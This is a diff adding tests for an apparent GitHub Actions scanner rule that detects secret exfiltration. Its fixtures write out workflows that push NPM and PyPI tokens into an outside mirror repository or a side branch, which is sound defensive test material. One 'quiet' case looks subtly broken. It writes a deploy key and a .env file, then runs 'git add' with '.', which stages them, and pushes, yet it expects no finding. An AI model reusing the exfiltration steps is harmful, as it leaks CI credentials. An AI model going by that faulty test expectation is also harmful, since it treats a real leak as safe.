@@ -1193,6 +1193,43 @@ describe('gha-secrets-exfiltration', () => {
     expect(dropOwnHostSends(findings, 'acme', 'tint').filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => f.line)).toEqual([7, 9, 10, 16]);
   });
 
+  it('reports secrets written to a file that the job names in git add and then pushes (a clone of another repository, another branch), critical', () => {
+    const pushed = `on: push\n${job(`      - run: |
+          git clone https://x:\${{ secrets.MIRROR_PAT }}@github.com/ci-mirror-bot/cache.git c
+          echo "\${{ secrets.NPM_TOKEN }}" > c/key.txt
+          cd c && git add key.txt && git commit -m sync && git push
+`)}`;
+    expect(only(pushed, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 8]]);
+    // Written in one step through env:, added and pushed in another.
+    const steps = `on: push\n${job(`      - run: printf '%s' "$T" | base64 > stats/cache.b64
+        env:
+          T: \${{ secrets.PYPI_API_TOKEN }}
+      - run: |
+          git add stats/cache.b64
+          git commit -m 'update stats' && git push origin HEAD:stats
+`)}`;
+    expect(only(steps, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+  });
+
+  it('is quiet on a secret written outside what git add names (~/.npmrc, a deploy key, .env) while other files are pushed, and on git add without a push', () => {
+    const normal = `on: push\n${job(`      - run: echo "//registry.npmjs.org/:_authToken=\${{ secrets.NPM_TOKEN }}" > ~/.npmrc
+      - run: |
+          echo "\${{ secrets.DEPLOY_KEY }}" > deploy_key && chmod 600 deploy_key
+          echo "API_KEY=\${{ secrets.API_KEY }}" > .env
+          npm version patch --no-git-tag-version && npm run build
+          git add package.json CHANGELOG.md dist/ .
+          git commit -m release
+          GIT_SSH_COMMAND='ssh -i deploy_key' git push
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+    const unpushed = `on: push\n${job(`      - run: |
+          echo "\${{ secrets.NPM_TOKEN }}" > token.txt
+          git add token.txt && git diff --cached --stat
+          git push --dry-run
+`)}`;
+    expect(only(unpushed, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet on gh writing ordinary data, with its token as credential, to this repository, a gist of build output, or an Enterprise host', () => {
     const normal = `on: push\n${job(`      - run: gh api repos/other-org/website/dispatches -f event_type=docs -f client_payload[sha]=$GITHUB_SHA
         env:
